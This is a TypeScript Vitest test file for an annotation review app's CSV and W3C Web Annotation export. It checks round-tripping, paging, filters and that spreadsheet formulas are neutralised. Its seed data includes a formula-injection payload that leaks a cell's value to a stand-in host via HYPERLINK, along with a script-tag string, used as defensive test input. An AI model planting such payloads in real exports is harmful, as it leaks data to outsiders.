import fs from 'node:fs';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../src/server/app.ts';
import type { Anchor } from '../../src/server/annotations/annotations.ts';
import { restoreFormula, splitCsvRecords } from '../../src/server/csv/csv.ts';
import { createReviewExportService } from '../../src/server/review/review-export.service.ts';
import {
  ANNOTATION_CSV_COLUMNS,
  ANNOTATION_CSV_HEADER,
  exportFileName,
  mailtoUri,
  TAG_SEPARATOR,
  type AnnotationCsvColumn,
  type ExportFormat,
} from '../../src/server/review/review-export.ts';
import type { ItemDetail, QueueFilter, ReviewActor } from '../../src/server/review/review.service.ts';
import { createWebAnnotationValidator } from '../fixtures/w3c-web-annotation/validator.ts';
import { createTestApp, type TestClock } from '../helpers/database.ts';
import { publishSmallMap } from '../helpers/maps.ts';

const blns: string[] = JSON.parse(fs.readFileSync(createRequire(import.meta.url).resolve('big-list-of-naughty-strings/blns.json'), 'utf8'));

/** Cells a spreadsheet would run, and every way a CSV writer can get quoting wrong. */
const HANDMADE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1)',
  "'=already neutralised",
  "''+twice",
  '\tstarts with a tab',
  '\rstarts with a carriage return',
  'Quote "inside", and a comma',
  '"',
  ',',
  '""',
  'Line one\nLine two\r\nLine three\rLine four',
  'ends with a line break\n',
  'Ünïcödé ✓ 日本語 العربية עברית 👩🏽‍🚀 \u200b zero width',
  '  spaces around  ',
  '<script>alert(1)</script>',
];
const TEXTS = [...HANDMADE, ...blns].filter((s) => s.trim() !== '' && [...s].length <= 5000);
/** Invitation fields are trimmed and at most 100-120 characters: naughty strings that fit. */
const FIELD_VALUES = [...HANDMADE, ...blns].filter((s) => s.trim() === s && s !== '' && [...s].length <= 100);
const EMAILS = ['dana@example.com', '=cmd@example.com', "o'brien+tag@example.com", '"quoted,comma"@example.com', 'ünï@exämple.com', '-minus@example.com', 'x@y.example'];

let app: App;
let clock: TestClock;
let cleanup: () => Promise<void>;
let mapId: string;
let otherMapId: string;
let stageKeys: string[];
let reviewer: ReviewActor;
/** Every live annotation's detail as the queue shows it, the export's independent oracle. */
const details = new Map<string, ItemDetail>();
let withdrawnId: string;
let people: { participantId: string; invitationId: string }[] = [];

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

async function exportText(filter: QueueFilter, format: ExportFormat): Promise<string> {
  const result = await app.reviewExport.exportAnnotations(filter, format);
  if (!result.ok) throw new Error(result.message);
  return collect(result.value.chunks);
}

function parseCsv(text: string): Record<AnnotationCsvColumn, string>[] {
  const { records, problems } = splitCsvRecords(text);
  expect(problems).toEqual([]);
  const [header, ...rows] = records;
  expect(header!.cells.join(',')).toBe(ANNOTATION_CSV_HEADER);
  return rows.map((row) => {
    expect(row.cells).toHaveLength(ANNOTATION_CSV_COLUMNS.length);
    return Object.fromEntries(ANNOTATION_CSV_COLUMNS.map((column, i) => [column, restoreFormula(row.cells[i]!)])) as Record<AnnotationCsvColumn, string>;
  });
}

/** Newest first, ties by id descending: the export's order. */
function expectedIds(filter: (detail: ItemDetail) => boolean = () => true): string[] {
  return [...details.values()]
    .filter(filter)
    .map((d) => d.item)
    .sort((a, b) => b.createdAt - a.createdAt || (a.id < b.id ? 1 : -1))
    .map((i) => i.id);
}

async function seed(): Promise<void> {
  ({ app, clock, cleanup } = await createTestApp());
  ({ mapId } = await publishSmallMap(app, { customerTitle: 'Payroll =onboarding, "v2"', stages: 3 }));
  ({ mapId: otherMapId } = await publishSmallMap(app, { customerTitle: 'Other map' }));
  await app.annotations.saveFeedbackSettings(mapId, { mode: 'shared', requiresApproval: true, showsNames: true });
  const versionId = (await app.portal.findPublishedVersion(mapId, null))!.id;
  const snapshot = (await app.portal.getPublishedVersion(versionId))!.snapshot;
  stageKeys = snapshot.stages.map((s) => s.key);
  const anchors: Anchor[] = [
    { kind: 'map' },
    { kind: 'stage', stage: stageKeys[0]! },
    { kind: 'lane', lane: snapshot.lanes[0]!.key },
    { kind: 'card', card: snapshot.cards[0]!.key },
    { kind: 'gap', stage: stageKeys[0]!, nextStage: stageKeys[1]! },
    { kind: 'gap', stage: stageKeys[1]!, nextStage: stageKeys[2]! },
    { kind: 'stage', stage: stageKeys[2]! },
  ];

  const created = await app.staff.create({ email: 'rita@example.com', name: '=Rita "the" Reviewer, -ops', role: 'reviewer', password: 'correct horse battery staple' });
  if (!created.ok) throw new Error(created.message);
  reviewer = created.value.member;

  for (let i = 0; i < 24; i++) {
    const email = i < EMAILS.length ? EMAILS[i]! : `person${i}@example.com`;
    const field = (offset: number) => FIELD_VALUES[(i * 4 + offset) % FIELD_VALUES.length];
    const invitation = await app.invitations.createInvitation(
      { mapId: i === 23 ? otherMapId : mapId, versionNumber: null, email, name: i % 5 === 4 ? null : field(0), account: i % 3 === 2 ? null : field(1), segment: field(2), role: field(3) },
      null,
    );
    if (!invitation.ok) throw new Error(`${email}: ${invitation.message}`);
    const session = await app.participants.continueWithLink(invitation.value.link.split('/m/i/')[1]!);
    if (!session.ok) throw new Error(session.message);
    const who = (await app.participants.validateSession(session.value.sessionToken))!;
    people.push({ participantId: who.participantId, invitationId: invitation.value.id });
  }

  const kinds = ['missing', 'inaccurate', 'pain_point', 'works_well', 'question', 'idea'];
  const ids: string[] = [];
  for (let i = 0; i < TEXTS.length; i++) {
    // Three at a time share a timestamp, so the export's paging must break ties.
    if (i % 3 === 0) clock.advance(3000);
    const who = people[i % 23]!;
    const result = await app.annotations.createAnnotation(who.participantId, who.invitationId, {
      anchor: anchors[i % anchors.length]!,
      kind: kinds[i % kinds.length]!,
      text: TEXTS[i]!,
      felt: i % 6 === 5 ? null : (i % 5) - 2,
      importance: i % 4 === 3 ? null : (i % 5) + 1,
    });
    if (!result.ok) throw new Error(`${JSON.stringify(TEXTS[i])}: ${result.message}`);
    ids.push(result.value.id);
  }
  const other = people[23]!;
  const onOtherMap = await app.annotations.createAnnotation(other.participantId, other.invitationId, { anchor: { kind: 'map' }, kind: 'idea', text: 'On the other map' });
  if (!onOtherMap.ok) throw new Error(onOtherMap.message);
  const withdrawn = await app.annotations.createAnnotation(people[0]!.participantId, people[0]!.invitationId, { anchor: { kind: 'map' }, kind: 'idea', text: 'withdrawn' });
  if (!withdrawn.ok) throw new Error(withdrawn.message);
  withdrawnId = withdrawn.value.id;
  await app.annotations.withdrawAnnotation(people[0]!.participantId, people[0]!.invitationId, withdrawnId);

  const pick = (step: number, offset = 0) => ids.filter((_, i) => i % step === offset);
  const bulk = async (targets: string[], change: Parameters<App['review']['bulkUpdate']>[2]) => {
    const result = await app.review.bulkUpdate(reviewer, targets, change);
    if (!result.ok) throw new Error(result.message);
  };
  await bulk(pick(2), { type: 'moderation', to: 'approved' });
  await bulk(pick(13, 1), { type: 'moderation', to: 'spam' });
  await bulk(pick(4), { type: 'disposition', to: 'accepted' });
  await bulk(pick(4, 1), { type: 'addTag', tag: 'needs research' });
  await bulk(pick(6, 1), { type: 'addTag', tag: 'billing' });
  await bulk(pick(3, 2), { type: 'owner', ownerId: reviewer.id });
  await bulk(pick(8), { type: 'impact', businessImpact: 5, effort: 2 });
  for (const [n, id] of pick(11, 3).entries()) await bulk([id], { type: 'disposition', to: 'declined', reason: HANDMADE[n % HANDMADE.length]!.trim() || 'no' });
  for (const id of pick(9, 5)) {
    const note = await app.review.addNote(reviewer, id, HANDMADE[0]!);
    if (!note.ok) throw new Error(note.message);
  }
  // +1s from other participants on approved items, then a duplicate merged into an original.
  for (const [n, id] of pick(10).entries()) {
    for (const voter of [people[(n + 5) % 23]!, people[(n + 7) % 23]!]) await app.annotations.voteForAnnotation(voter.participantId, voter.invitationId, id);
  }
  await bulk([ids[21]!], { type: 'disposition', to: 'duplicate', duplicateOf: ids[20]! });

  for (const id of [...ids, onOtherMap.value.id]) details.set(id, (await app.review.getItem(id))!);
}

beforeAll(seed, 120_000);
afterAll(() => cleanup());

describe('CSV export', () => {
  it('parses back to the same data, naughty strings included, newest first, without the withdrawn', async () => {
    const csv = await exportText({}, 'csv');
    const rows = parseCsv(csv);
    expect(rows.map((r) => r.id)).toEqual(expectedIds());
    expect(rows.map((r) => r.id)).not.toContain(withdrawnId);
    for (const row of rows) {
      const { item, priority, notes } = details.get(row.id)!;
      const back = {
        id: row.id,
        createdAt: Date.parse(row.created_at),
        mapId: row.map_id,
        mapTitle: row.map_title,
        versionNumber: Number(row.version),
        anchorLabel: row.anchor_label,
        kind: row.kind,
        text: row.text,
        felt: row.felt === '' ? null : Number(row.felt),
        importance: row.importance === '' ? null : Number(row.importance),
        author: { name: row.author_name || null, email: row.author_email, account: row.author_company || null, segment: row.author_segment || null, role: row.author_role || null },
        moderation: row.moderation,
        disposition: row.disposition,
        declineReason: row.decline_reason || null,
        duplicateOf: row.duplicate_of || null,
        owner: row.owner || null,
        tags: row.tags === '' ? [] : row.tags.split(TAG_SEPARATOR),
        notes: Number(row.internal_notes),
        votes: Number(row.plus_ones),
        reporters: Number(row.reporters),
        participants: Number(row.participants),
        accounts: Number(row.accounts),
        businessImpact: row.business_impact === '' ? null : Number(row.business_impact),
        effort: row.effort === '' ? null : Number(row.effort),
        priority: Number(row.priority),
        triagedAt: row.triaged_at === '' ? null : Date.parse(row.triaged_at),
      };
      expect(back, JSON.stringify(item.text)).toEqual({
        id: item.id,
        createdAt: item.createdAt,
        mapId: item.mapId,
        mapTitle: item.mapTitle,
        versionNumber: item.versionNumber,
        anchorLabel: item.anchorLabel,
        kind: item.kind,
        text: item.text,
        felt: item.felt,
        importance: item.importance,
        author: { name: item.author.name, email: item.author.email, account: item.author.account, segment: item.author.segment, role: item.author.role },
        moderation: item.moderation,
        disposition: item.disposition,
        declineReason: item.declineReason,
        duplicateOf: item.duplicateOf,
        owner: item.owner?.name ?? null,
        tags: item.tags,
        notes: notes.length,
        votes: item.votes,
        reporters: item.reporters,
        participants: priority.participants,
        accounts: priority.accounts,
        businessImpact: item.businessImpact,
        effort: item.effort,
        priority: priority.score,
        triagedAt: item.triagedAt,
      });
    }
    // The data really is varied: the round trip above covered these.
    expect(rows.filter((r) => r.decline_reason !== '').length).toBeGreaterThan(5);
    expect(rows.some((r) => r.plus_ones !== '0') && rows.some((r) => r.reporters !== '0') && rows.some((r) => r.internal_notes !== '0')).toBe(true);
    expect(new Set(rows.map((r) => r.anchor.split(':')[0]))).toEqual(new Set(['map', 'stage', 'lane', 'card', 'gap']));
  });

  it('neutralises every cell a spreadsheet would run as a formula', async () => {
    const { records } = splitCsvRecords(await exportText({}, 'csv'));
    const cells = records.flatMap((r) => r.cells);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // …and they were there to neutralise: an owner name, texts, emails, negative feelings.
    expect(cells).toContain(`'${HANDMADE[0]}`);
    expect(cells).toContain("'=cmd@example.com");
    expect(cells).toContain(`'=Rita "the" Reviewer, -ops`);
    expect(cells).toContain("'-2");
  });

  it('is only the header when nothing matches', async () => {
    expect(await exportText({ disposition: 'applied' }, 'csv')).toBe(`${ANNOTATION_CSV_HEADER}\r\n`);
  });
});

describe('W3C Web Annotation export', () => {
  const validator = createWebAnnotationValidator();

  it('is a collection in which every annotation validates against the W3C schemas', async () => {
    const doc = JSON.parse(await exportText({}, 'w3c'));
    expect(validator.validateCollection(doc)).toEqual([]);
    expect(doc).toMatchObject({ '@context': 'http://www.w3.org/ns/anno.jsonld', type: 'AnnotationCollection', id: 'http://localhost:4321/app/review/export?format=w3c', total: details.size });
    const items = doc.first.items as any[];
    expect(items.map((a) => a.groundtruth.id)).toEqual(expectedIds());
    for (const annotation of items) {
      expect(validator.validateAnnotation(annotation), JSON.stringify(annotation)).toEqual([]);
      const { item } = details.get(annotation.groundtruth.id)!;
      expect(annotation).toMatchObject({
        '@context': 'http://www.w3.org/ns/anno.jsonld',
        id: `http://localhost:4321/app/review/${item.id}`,
        type: 'Annotation',
        created: new Date(item.createdAt).toISOString(),
        motivation: item.kind === 'question' ? 'questioning' : 'commenting',
        creator: { type: 'Person', email: mailtoUri(item.author.email), ...(item.author.name ? { name: item.author.name } : {}) },
      });
      expect(annotation.body[0]).toEqual({ type: 'TextualBody', purpose: annotation.motivation, value: item.text, format: 'text/plain' });
      expect(annotation.body[1]).toEqual({ type: 'TextualBody', purpose: 'classifying', value: item.kindLabel });
      expect(annotation.body.slice(2)).toEqual(item.tags.map((tag) => ({ type: 'TextualBody', purpose: 'tagging', value: tag })));
      const source = `http://localhost:4321/m/versions/${item.versionId}`;
      const frag = (value: string) => ({ type: 'FragmentSelector', conformsTo: 'http://tools.ietf.org/rfc/rfc3236', value });
      const a = item.anchor;
      const selector =
        a.kind === 'stage' ? frag(`stage-${a.stage}`)
        : a.kind === 'lane' ? frag(`lane-${a.lane}`)
        : a.kind === 'card' ? frag(`card-${a.card}`)
        : a.kind === 'gap' ? { type: 'RangeSelector', startSelector: frag(`stage-${a.stage}`), endSelector: frag(`stage-${a.nextStage}`) }
        : null;
      expect(annotation.target).toEqual(selector ? { type: 'SpecificResource', source, selector } : source);
      expect(annotation.groundtruth).toMatchObject({ moderation: item.moderation, disposition: item.disposition, declineReason: item.declineReason, plusOnes: item.votes });
    }
  });

  it('turns every email into a valid mailto URI that decodes back to the address', () => {
    for (const email of EMAILS) {
      const uri = mailtoUri(email);
      const [local, domain] = uri.slice('mailto:'.length).split('@');
      expect(`${decodeURIComponent(local!)}@${decodeURIComponent(domain!)}`).toBe(email);
    }
  });

  it('refuses deliberately broken annotations (the validator can fail)', async () => {
    const doc = JSON.parse(await exportText({ mapId }, 'w3c'));
    const good = (doc.first.items as any[]).find((a) => a.target.selector?.type === 'RangeSelector');
    expect(validator.validateAnnotation(good)).toEqual([]);
    const broken: [string, (a: any) => void][] = [
      ['no target', (a) => delete a.target],
      ['another @context', (a) => (a['@context'] = 'http://example.com/context.jsonld')],
      ['an id that is not a URI', (a) => (a.id = 'not a uri')],
      ['not an Annotation', (a) => (a.type = 'Note')],
      ['a created that is not a date-time', (a) => (a.created = 'yesterday')],
      ['an unknown motivation', (a) => (a.motivation = 'chatting')],
      ['an unknown body purpose', (a) => (a.body[0].purpose = 'chatting')],
      ['a body that is nothing the model knows', (a) => (a.body = [{ type: 'TextualBody', text: 'no value' }])],
      ['both body and bodyValue', (a) => (a.bodyValue = 'text')],
      ['an email that is not a mailto URI', (a) => (a.creator.email = 'dana@example.com')],
      ['a range selector without its end', (a) => delete a.target.selector.endSelector],
      ['a fragment selector without a value', (a) => delete a.target.selector.startSelector.value],
      ['a source that is not a URI', (a) => (a.target.source = 'not a uri')],
    ];
    for (const [what, breakIt] of broken) {
      const annotation = structuredClone(good);
      breakIt(annotation);
      expect(validator.validateAnnotation(annotation).length, what).toBeGreaterThan(0);
    }
    const collection = structuredClone(doc);
    collection.type = 'Collection';
    expect(validator.validateCollection(collection).length).toBeGreaterThan(0);
  });

  it('is a valid empty collection when nothing matches', async () => {
    const doc = JSON.parse(await exportText({ disposition: 'applied' }, 'w3c'));
    expect(validator.validateCollection(doc)).toEqual([]);
    expect(doc.total).toBe(0);
    expect(doc.first.items).toEqual([]);
  });
});

describe('what an export reads', () => {
  it('reads in batches without losing or repeating rows, ties included', async () => {
    const small = createReviewExportService({ db: app.db, clock, review: app.review, publicUrl: 'http://localhost:4321', batchSize: 7 });
    const result = await small.exportAnnotations({}, 'csv');
    if (!result.ok) throw new Error(result.message);
    const chunks: string[] = [];
    for await (const chunk of result.value.chunks) chunks.push(chunk);
    expect(chunks.length).toBeGreaterThan(details.size / 7);
    expect(parseCsv(chunks.join('')).map((r) => r.id)).toEqual(expectedIds());
  });

  it('takes the queue filter as it is: map, tag, stage, disposition', async () => {
    const ids = async (filter: QueueFilter) => parseCsv(await exportText(filter, 'csv')).map((r) => r.id);
    expect(await ids({ mapId })).toEqual(expectedIds((d) => d.item.mapId === mapId));
    expect(await ids({ mapId: otherMapId })).toEqual(expectedIds((d) => d.item.mapId === otherMapId));
    expect(await ids({ tag: 'Billing' })).toEqual(expectedIds((d) => d.item.tags.includes('billing')));
    expect(await ids({ disposition: 'declined', mapId })).toEqual(expectedIds((d) => d.item.disposition === 'declined'));
    // A stage: annotations on it, on the gap after it, and on its cards.
    const onFirstStage = await ids({ mapId, stageKey: stageKeys[0] });
    const kinds = new Set(onFirstStage.map((id) => details.get(id)!.item.anchor.kind));
    expect(kinds).toEqual(new Set(['stage', 'card', 'gap']));
    expect(onFirstStage).toEqual(
      expectedIds(({ item: { anchor: a } }) => (a.kind === 'stage' && a.stage === stageKeys[0]) || a.kind === 'card' || (a.kind === 'gap' && a.stage === stageKeys[0])),
    );
  });

  it('leaves out an annotation withdrawn while the export runs, counted in the total', async () => {
    const dana = people[0]!;
    clock.advance(60_000);
    const late = await app.annotations.createAnnotation(dana.participantId, dana.invitationId, { anchor: { kind: 'map' }, kind: 'idea', text: 'withdrawn mid-export' });
    if (!late.ok) throw new Error(late.message);
    const result = await app.reviewExport.exportAnnotations({ mapId }, 'w3c');
    if (!result.ok) throw new Error(result.message);
    await app.annotations.withdrawAnnotation(dana.participantId, dana.invitationId, late.value.id);
    const doc = JSON.parse(await collect(result.value.chunks));
    expect(doc.total).toBe(expectedIds((d) => d.item.mapId === mapId).length + 1);
    expect(doc.first.items.map((a: { groundtruth: { id: string } }) => a.groundtruth.id)).toEqual(expectedIds((d) => d.item.mapId === mapId));
  });

  it('refuses an unknown map and a filter that is not a state, changing nothing', async () => {
    expect(await app.reviewExport.exportAnnotations({ mapId: 'nope' }, 'csv')).toMatchObject({ ok: false, error: 'not_found', message: 'No map with id nope.' });
    expect(await app.reviewExport.exportAnnotations({ disposition: 'maybe' }, 'w3c')).toMatchObject({ ok: false, error: 'invalid' });
    expect(await app.reviewExport.exportAnnotations({ tag: '<b>' }, 'csv')).toMatchObject({ ok: false, error: 'invalid' });
  });

  it('names the file after the map and the day', async () => {
    const result = await app.reviewExport.exportAnnotations({ mapId }, 'w3c');
    if (!result.ok) throw new Error(result.message);
    expect(result.value).toMatchObject({ contentType: 'application/ld+json; profile="http://www.w3.org/ns/anno.jsonld"', total: expectedIds((d) => d.item.mapId === mapId).length });
    expect(result.value.fileName).toMatch(/^annotations-Internal-Payroll-onboarding-v2-\d{4}-\d{2}-\d{2}\.jsonld$/);
    expect(exportFileName({ mapTitle: null, now: Date.UTC(2026, 0, 2), format: 'csv' })).toBe('annotations-all-maps-2026-01-02.csv');
    expect(exportFileName({ mapTitle: '日本語', now: Date.UTC(2026, 0, 2), format: 'csv' })).toBe('annotations-map-2026-01-02.csv');
  });
});
